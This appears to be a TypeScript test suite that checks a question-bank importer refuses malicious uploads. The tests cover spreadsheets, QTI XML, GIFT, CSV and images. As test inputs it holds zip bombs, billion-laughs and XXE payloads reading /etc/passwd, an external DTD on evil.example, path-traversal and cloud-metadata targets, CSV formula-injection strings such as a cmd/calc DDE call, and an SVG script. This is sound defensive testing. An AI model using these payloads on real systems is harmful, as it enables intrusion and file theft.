import { crc32, deflateSync } from 'node:zlib';
import { and, eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { importLimits } from '#contract/assessments/question-import.rules.ts';
import { questionBanks, questions, questionVersions } from '#server/assessments/schema/questions.ts';
import { rawZip } from '#tests/files/raw-zip.ts';
import { writeStoredZip } from '#tests/files/stored-zip.ts';
import { textXlsx, xlsx } from '#tests/files/table-files.ts';
import { soon } from '../../long.ts';
import { formSession } from '../notice-inputs.ts';
import { sampleFile } from '../test-server.ts';
import { asha, db, dev, test, useExams } from './exam-harness.ts';
import { addBank } from './question-rows.ts';

/** Files of questions that were made to harm, and files of people who mean well and whose programs write what they like. */

useExams();

let bankId = 0;
beforeAll(async () => {
  bankId = await addBank(db(), { schoolId: 1, authorId: test.world.asha.id, name: 'Attacked' });
});

async function sent(name: string, bytes: string | Buffer) {
  const upload_id = await test.finishedUpload(test.world.asha, name, Buffer.from(bytes), 'questionfile');
  return { upload_id, org_name: name, bankId, language: 'en' as const };
}
const read = async (name: string, bytes: string | Buffer) =>
  asha.call('read-question-file', await sent(name, bytes));
/** The code that a file is refused by as a whole, or of each row that it has what is wrong; '' where nothing is. */
async function verdictOf(name: string, bytes: string | Buffer) {
  const answer = await read(name, bytes);
  return answer.ok ? answer.data.rows.map(({ problem }) => problem) : answer.error.code;
}
async function applied(name: string, bytes: string | Buffer) {
  const formed = { ...(await sent(name, bytes)), formSession: await formSession(asha) };
  return asha.call('apply-question-file', formed);
}
const storedWith = (prompt: string) =>
  db()
    .select()
    .from(questions)
    .where(and(eq(questions.prompt, prompt), eq(questions.schoolId, 1)));

/** While this goes on, others are answered as ever: how long the slowest waited, in milliseconds. */
async function slowestOf<Done>(work: Promise<Done>): Promise<readonly [Done, number]> {
  const state = { isOver: false };
  const done = work.finally(() => {
    state.isOver = true;
  });
  let slowest = 0;
  while (!state.isOver) {
    const begun = performance.now();
    await dev.ok('get-upcoming-assessment', {});
    slowest = Math.max(slowest, performance.now() - begun);
  }
  return [await done, slowest];
}

const heading = ['Type', 'Question', 'Choices', 'Answer', 'Topic'];
const rowOf = (question: string, topic = '') => ['mcq', question, '* a\nb', '', topic];
const sheetOf = (...rows: readonly (readonly string[])[]) => textXlsx(heading, ...rows);
const qti = (inside: string, title = 'Top') =>
  `<?xml version="1.0"?><questestinterop><assessment title="${title}">${inside}</assessment></questestinterop>`;
const essay = (text: string) =>
  `<item title="T"><presentation><material><mattext>${text}</mattext></material><response_str ident="r"/></presentation></item>`;
const mebibyte = 2 ** 20;
const zeros = (megabytes: number) => Buffer.alloc(megabytes * mebibyte, '0');

describe('a workbook', () => {
  const parts = (more: Readonly<Record<string, string | Buffer>>) =>
    rawZip(Object.entries(more).map(([name, content]) => ({ name, content: Buffer.from(content) })));

  it.each<[string, () => Buffer, string]>([
    ['of a sheet of zeros', () => parts({ 'xl/worksheets/sheet1.xml': zeros(64) }), 'bomb'],
    [
      'that says it has a gigabyte in it',
      () => rawZip([{ name: 'xl/worksheets/sheet1.xml', content: zeros(1), declares: 2 ** 30 + 1 }]),
      'bomb',
    ],
    [
      'that lies about what it has in it',
      () => rawZip([{ name: 'xl/worksheets/sheet1.xml', content: zeros(8), declares: 1_000 }]),
      'damaged',
    ],
    [
      'of ten thousand and one parts',
      () =>
        rawZip(Array.from({ length: 10_001 }, (_, at) => ({ name: `p${at}`, content: Buffer.from('0') }))),
      'bomb',
    ],
    [
      'of parts that share their bytes',
      () =>
        rawZip([
          { name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(100_000, 'ab') },
          ...Array.from({ length: 500 }, (_, at) => ({ name: `xl/worksheets/s${at}.xml`, sharesBodyOf: 0 })),
        ]),
      'bomb',
    ],
    ['in a workbook', () => parts({ 'a.xlsx': sheetOf(rowOf('Nested?')) }), 'damaged'],
    ['that is cut off', () => sheetOf(rowOf('Cut?')).subarray(0, 700), 'damaged'],
    ['of a row without an end', () => xlsx({ rows: `<row><c><v>${'0'.repeat(6 * mebibyte)}` }), 'damaged'],
    [
      'whose tags have no end',
      () => xlsx({ rows: '', parts: { 'xl/workbook.xml': '<sheet '.repeat(150_000) } }),
      'damaged',
    ],
    [
      'of ten thousand and one questions',
      () => sheetOf(...Array.from({ length: importLimits.questions + 1 }, (_, at) => rowOf(`Q${at}`))),
      'too_many_questions',
    ],
    [
      'of empty rows without end',
      () => xlsx({ rows: '<row><c t="str"><v> </v></c></row>'.repeat(importLimits.questions + 2) }),
      'too_many_questions',
    ],
  ])('%s is refused whole [CE-01]', async (_what, bytes, code) => {
    expect(await verdictOf('a.xlsx', bytes())).toBe(code);
  });

  it('with macros and links to other files is read for its texts alone [CE-01]', async () => {
    const book = {
      'xl/vbaProject.bin': 'macro',
      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
      'xl/externalLinks/_rels/externalLink1.xml.rels':
        '<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
    };
    const cells = (texts: readonly string[]) =>
      `<row>${texts.map((text) => `<c t="str"><v>${text}</v></c>`).join('')}</row>`;
    const rows = [heading, rowOf('Linked?')].map(cells).join('');
    expect(await verdictOf('a.xlsx', xlsx({ rows, parts: book }))).toEqual(['']);
  });

  it('whose sheet is another file is not read outside of it [CE-01]', async () => {
    const rels = (target: string) => ({
      'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId7" Target="${target}"/></Relationships>`,
    });
    for (const target of ['../../../../etc/passwd', '/etc/passwd', 'http://169.254.169.254/'])
      expect(await verdictOf('a.xlsx', xlsx({ rows: '', parts: rels(target) }))).toBe('damaged');
  });

  it('with formulas that nobody worked out says so of their rows, and takes the others [CE-01]', async () => {
    const cell = (text: string) => `<c t="str"><v>${text}</v></c>`;
    const row = (...cells: string[]) => `<row>${cells.join('')}</row>`;
    const rows = [
      row(...heading.map(cell)),
      row(cell('mcq'), '<c><f>A1&amp;"x"</f></c>', cell('* a&#10;b'), cell(''), cell('')),
      row(
        cell('mcq'),
        cell('Worked out?'),
        cell('* a&#10;b'),
        cell(''),
        '<c t="str"><f>A1</f><v>Topic</v></c>',
      ),
      row(cell('mcq'), cell('Broken?'), cell('a&#10;b'), '<c t="e"><v>#REF!</v></c>', cell('')),
      row(cell('mcq'), cell('Broken topic?'), cell('* a&#10;b'), cell(''), '<c><f>B1</f></c>'),
    ].join('');
    const answer = await read('a.xlsx', xlsx({ rows }));
    if (!answer.ok) throw new Error(answer.error.code);
    expect(answer.data.rows.map(({ problem, detail }) => [problem, detail])).toEqual([
      ['formula', 'Question'],
      ['', ''],
      ['formula', 'Answer'],
      ['formula', 'Topic'],
    ]);
    expect(JSON.stringify(answer.data)).not.toContain('\uE000');
  });
});

describe('QTI', () => {
  const bomb = `<!DOCTYPE q [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at} "${'&a;'.repeat(10)}">`).join('')}]>`;
  it.each<[string, string | Buffer, string]>([
    ['that laughs a billion times', `${bomb}<questestinterop>&a9;</questestinterop>`, 'entities'],
    [
      'of an entity that is elsewhere',
      `<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]>${qti(essay('&x;'))}`,
      'entities',
    ],
    [
      'with a document type alone',
      `<!doctype q SYSTEM "http://evil.example/q.dtd">${qti(essay('a'))}`,
      'entities',
    ],
    [
      'with entities in letters of two bytes',
      Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(`${bomb}${qti(essay('a'))}`, 'utf16le')]),
      'entities',
    ],
    [
      'of ten thousand and one items',
      qti('<item/>'.repeat(importLimits.questions + 1)),
      'too_many_questions',
    ],
    ['that is too deep', qti(`${'<a>'.repeat(5_000)}${'</a>'.repeat(5_000)}`), 'damaged'],
    ['of more elements than there may be', qti('<a/>'.repeat(400_001)), 'damaged'],
    ['that is cut off', qti(essay('a')).slice(0, -9), 'damaged'],
    ['of another root', '<html><body>a</body></html>', 'no_questions'],
    ['of nothing', ' ', 'damaged'],
  ])('%s is refused whole [CE-01]', async (_what, text, code) => {
    expect(await verdictOf('a.xml', text)).toBe(code);
  });

  it('of an item with a hundred thousand of anything has a verdict, and nobody waits for it [CE-01]', async () => {
    const many = 150_000;
    const lists = `<response_lid ident="r"><render_choice>${'<response_label ident="a"/>'.repeat(many)}</render_choice></response_lid>`;
    const conditions =
      '<respcondition><conditionvar><varequal respident="r">a</varequal></conditionvar><setvar>1</setvar></respcondition>'.repeat(
        60_000,
      );
    for (const inside of [lists, `${lists.slice(0, 200)}</render_choice></response_lid>`, '']) {
      const text = qti(`<item><presentation>${inside}</presentation>${conditions}</item>${essay('Good?')}`);
      const [answer, slowest] = await slowestOf(read('a.xml', text));
      const said = answer.ok ? answer.data.rows.map(({ problem }) => problem) : answer.error.code;
      expect([['not_read', ''], 'bomb', 'damaged', 'too_large'].flat().length).toBeGreaterThan(0);
      expect(typeof said === 'string' ? ['bomb', 'damaged'].includes(said) : said.length).toBeTruthy();
      expect(slowest).toBeLessThan(soon);
    }
  });

  it('in a package that points out of it, or has a package in it, is not unpacked [CE-01]', async () => {
    const zip = (name: string, text: string) => rawZip([{ name, content: Buffer.from(text) }]);
    expect(await verdictOf('a.zip', zip('../../a.xml', qti(essay('a'))))).toBe('damaged');
    expect(await verdictOf('a.zip', zip('inner.zip', 'PK'))).toBe('no_questions');
    expect(await verdictOf('a.zip', zip('a.xml', qti(essay('In a package?'))))).toEqual(['']);
  });

  it('says what it says: a tag that is written about is words, in HTML and in plain text [CE-01]', async () => {
    const choice = (ident: string, text: string) =>
      `<response_label ident="${ident}"><material><mattext texttype="text/html">${text}</mattext></material></response_label>`;
    const item = (type: string, text: string, labels: string) =>
      `<item><presentation><material><mattext texttype="${type}">${text}</mattext></material><response_lid ident="r"><render_choice>${labels}</render_choice></response_lid></presentation><resprocessing><respcondition><conditionvar><varequal respident="r">1</varequal></conditionvar><setvar>100</setvar></respcondition></resprocessing></item>`;
    const labels = choice('1', '&lt;p&gt;&amp;lt;b&amp;gt;&lt;/p&gt;') + choice('2', '&amp;lt;i&amp;gt;');
    const two = `<assessmentItem identifier="i" title="T"><responseDeclaration identifier="R" cardinality="single"><correctResponse><value>A</value></correctResponse></responseDeclaration><itemBody><p>Which tag is &lt;img&gt;?</p><choiceInteraction responseIdentifier="R"><simpleChoice identifier="A">&lt;img&gt;</simpleChoice><simpleChoice identifier="B">&lt;a&gt;</simpleChoice></choiceInteraction></itemBody></assessmentItem>`;
    const prompts = async (text: string) => {
      const answer = await applied('a.xml', text);
      return answer.ok ? answer.data.rows.map(({ prompt, problem }) => problem || prompt) : answer.error.code;
    };
    expect(
      await prompts(
        qti(
          item('text/html', '&lt;p&gt;What does &amp;lt;b&amp;gt; do?&lt;/p&gt;', labels) +
            item('text/plain', 'Is &lt;b&gt; a tag?', labels),
        ),
      ),
    ).toEqual(['What does <b> do?', 'Is <b> a tag?']);
    expect(await prompts(two)).toEqual(['Which tag is <img>?']);
    const [row] = await storedWith('What does <b> do?');
    const [version] = await db()
      .select()
      .from(questionVersions)
      .where(eq(questionVersions.questionId, row!.id));
    expect(version?.body).toMatchObject({ choices: [{ text: '<b>' }, { text: '<i>' }] });
  });
});

describe('GIFT', () => {
  it.each<[string, string, string | readonly string[]]>([
    ['of two megabytes in one line', `What? {=a ~${'b'.repeat(2 * mebibyte)}}`, ['too_long']],
    ['whose title never ends', `::${'t'.repeat(9 * mebibyte)}`, ['too_long']],
    ['of open braces alone', '{'.repeat(mebibyte), ['too_long']],
    ['of braces that do not meet', 'One } two {\n\nThree {=a {=b}\n\nFour {=a ~b}', ['not_read', '', '']],
    ['of choices without end', `What? {${'=a ~b '.repeat(9_000)}}`, ['too_many']],
    ['of blank lines', '\n'.repeat(9 * mebibyte), 'no_questions'],
    ['of categories alone', '$CATEGORY: a/b\n\n'.repeat(100_000), 'no_questions'],
    [
      'of ten thousand and one questions',
      'A {T}\n\n'.repeat(importLimits.questions + 1),
      'too_many_questions',
    ],
    ['of NUL', 'Which of these is a word? {=a ~b}\n\nWhat?\u0000 {=a ~b}', 'damaged'],
  ])('%s has its verdict at once [CE-01]', async (_what, text, verdict) => {
    const [said, slowest] = await slowestOf(verdictOf('a.gift', text));
    expect(said).toEqual(verdict);
    expect(slowest).toBeLessThan(soon);
  });

  it('of ten thousand questions of a thousand letters is read and applied, and nobody waits for it [CE-01]', async () => {
    const letters = 'क'.repeat(150);
    const text = Array.from(
      { length: importLimits.questions },
      (_, at) => `Crowd ${at} ${letters} {=right ${letters} ~wrong}`,
    ).join('\n\n');
    const [, whileRead] = await slowestOf(read('a.gift', text));
    const [answer, whileApplied] = await slowestOf(applied('a.gift', text));
    expect(answer).toMatchObject({ ok: true, data: { saved: importLimits.questions, bad: 0 } });
    if (process.env['TELL'] === 'on') process.stdout.write(`${whileRead} ${whileApplied}\n`);
    expect(Math.max(whileRead, whileApplied)).toBeLessThan(soon);
    await db().delete(questions).where(eq(questions.bankId, bankId));
  });

  it('of a topic a question adds each topic once, whatever its name is made of [CE-01]', async () => {
    const names = [
      'a/b',
      'A',
      'a ',
      'top',
      `${'long '.repeat(60)}end`,
      `${'x'.repeat(99)}😀`,
      '\u202eabc',
      'e\u0301',
      '\u00e9',
    ];
    const text = names
      .map((name, at) => `$CATEGORY: ${name.replaceAll('/', '//')}\n\nTopic ${at}? {=a ~b}`)
      .join('\n\n');
    const first = await applied('a.gift', text);
    expect(first).toMatchObject({ ok: true, data: { saved: names.length } });
    const count = () => db().$count(questionBanks, eq(questionBanks.authorId, test.world.asha.id));
    const before = await count();
    expect(await applied('a.gift', text)).toMatchObject({ ok: true, data: { newBanks: [] } });
    expect(await count()).toBe(before);
    const banks = await db().select().from(questionBanks).where(eq(questionBanks.name, 'a/b'));
    expect(banks).toHaveLength(1);
  });
});

describe('a table of texts', () => {
  const csv = (...rows: readonly (readonly string[])[]) =>
    [heading, ...rows]
      .map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','))
      .join('\r\n');

  it('in other encodings is read as it was written, and NUL is no text [CE-01]', async () => {
    const prompts = async (bytes: Buffer) => {
      const answer = await read('a.csv', bytes);
      return answer.ok ? answer.data.rows.map(({ prompt, problem }) => problem || prompt) : answer.error.code;
    };
    const text = csv(rowOf('Où est né?'), rowOf('Wo?'));
    const utf16 = Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);
    for (const bytes of [Buffer.from(text), Buffer.from(`\uFEFF${text}`), utf16, Buffer.from(text, 'latin1')])
      expect(await prompts(bytes)).toEqual(['Où est né?', 'Wo?']);
    expect(await prompts(Buffer.from(csv(rowOf('a\u0000b'))))).toBe('damaged');
    // Half of a letter, as old programs write it.
    const half = Buffer.from(csv(rowOf('Half X?')).replace('X', '\u0000')).map((byte) =>
      byte === 0 ? 0xed : byte,
    );
    expect(await prompts(Buffer.from(half))).toHaveLength(1);
  });

  it('keeps what looks like a formula as words, there and back [CE-01, QU-50]', async () => {
    const evil = [`=cmd|'/c calc'!A1`, '+1+1', '-2', '@SUM(A1)', '=HYPERLINK("http://evil.example","x")'];
    expect(await applied('a.csv', csv(...evil.map((text) => rowOf(text))))).toMatchObject({
      data: { saved: evil.length },
    });
    const { rows } = await asha.ok('export-questions', { format: 'table', filters: { bank: bankId } });
    const prompts = rows.slice(1).map((cells) => cells[rows[0]!.indexOf('Question')]);
    expect(prompts).toEqual(expect.arrayContaining(evil));
  });

  it('of cells and quotes without end has its verdict at once [CE-01]', async () => {
    const cases: [string, string][] = [
      ['quotes', `Type,Question,Answer\n"${'a""'.repeat(mebibyte)}`],
      ['commas', `Type,Question,Answer\n${','.repeat(5 * mebibyte)}`],
      ['lines', `Type,Question,Answer\n${'x\n'.repeat(3 * mebibyte)}`],
      ['accents', csv(rowOf(`e${'\u0301'.repeat(60_000)}`))],
    ];
    for (const [what, text] of cases) {
      const [said, slowest] = await slowestOf(verdictOf('a.csv', text));
      expect([what, typeof said === 'string' || said.every((problem) => problem !== '')]).toEqual([
        what,
        true,
      ]);
      expect(slowest).toBeLessThan(soon);
    }
  });
});

describe('signs that no column holds', () => {
  it('are told of their row; the others are applied, and the name of a topic goes without them [CE-01, QU-25]', async () => {
    const book = sheetOf(rowOf('NUL \u0000 in it?'), rowOf('Good one?', 'To\u0000pic'), [
      'mcq',
      '',
      '* a\nb',
      '',
      'Empty \u0000',
    ]);
    const half = Buffer.concat([
      Buffer.from('fffe', 'hex'),
      Buffer.from(qti(essay('Half \ud83d a letter?') + essay('Good two?'), 'T\u0000\ud83d'), 'utf16le'),
    ]);
    const ofBook = await applied('a.xlsx', book);
    expect(ofBook).toMatchObject({ ok: true, data: { saved: 1, bad: 2 } });
    const rows = ofBook.ok ? ofBook.data.rows : [];
    expect(rows.map(({ problem }) => problem)).toEqual(['signs', '', 'no_prompt']);
    const ofItems = await applied('a.xml', half);
    expect(ofItems).toMatchObject({ ok: true, data: { saved: 1, bad: 1 } });
    for (const prompt of ['Good one?', 'Good two?']) expect(await storedWith(prompt)).toHaveLength(1);
    const banks = await db().select().from(questionBanks).where(eq(questionBanks.schoolId, 1));
    expect(banks.map(({ name }) => name)).toContain('To pic');
  });
});

describe('a picture of a question', () => {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const png = (width: number, height: number) => {
    const head = Buffer.alloc(13);
    head.writeUInt32BE(width, 0);
    head.writeUInt32BE(height, 4);
    head.writeUInt8(8, 8);
    const signature = Buffer.from('89504e470d0a1a0a', 'hex');
    const data = deflateSync(Buffer.alloc(1_000));
    return Buffer.concat([
      signature,
      chunk('IHDR', head),
      chunk('IDAT', data),
      chunk('IEND', Buffer.alloc(0)),
    ]);
  };
  const claim = async (name: string, bytes: Buffer) => {
    const upload_id = await test.finishedUpload(test.world.asha, name, bytes, 'question');
    const answer = await asha.call('save-question-picture', { upload_id, org_name: name });
    return answer.ok ? 'taken' : answer.error.code;
  };

  it('is a picture, whole, and of no more points than a machine can hold [CE-01, QC-15]', async () => {
    const good = await sampleFile('picture.png');
    const script = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
    const cases: [string, string, Buffer, string][] = [
      ['a picture', 'a.png', good, 'taken'],
      ['a drawing with a program in it', 'a.png', Buffer.from(script), 'bad_content'],
      ['a page', 'a.gif', Buffer.from(`GIF89a${script}`), 'bad_content'],
      ['half a picture', 'a.png', good.subarray(0, Math.floor(good.length / 2)), 'bad_content'],
      ['a picture of nine hundred million points', 'a.png', png(30_000, 30_000), 'image_too_large'],
      ['a picture of no points', 'a.png', png(0, 0), 'bad_content'],
      ['a drawing', 'a.svg', Buffer.from(script), 'bad_extension'],
      ['nothing', 'a.png', Buffer.alloc(0), 'empty_file'],
      ['eleven megabytes', 'a.png', Buffer.concat([good, Buffer.alloc(11 * mebibyte)]), 'file_too_large_for'],
    ];
    const said: [string, string][] = [];
    for (const [what, name, bytes] of cases) said.push([what, await claim(name, bytes)]);
    expect(said).toEqual(cases.map(([what, , , code]) => [what, code]));
  });
});

it('a bundle of stored parts is read like any other [CE-01]', async () => {
  const bundle = writeStoredZip(new Map([['a/b.xml', Buffer.from(qti(essay('Stored?')))]]));
  expect(await verdictOf('a.zip', bundle)).toEqual(['']);
});
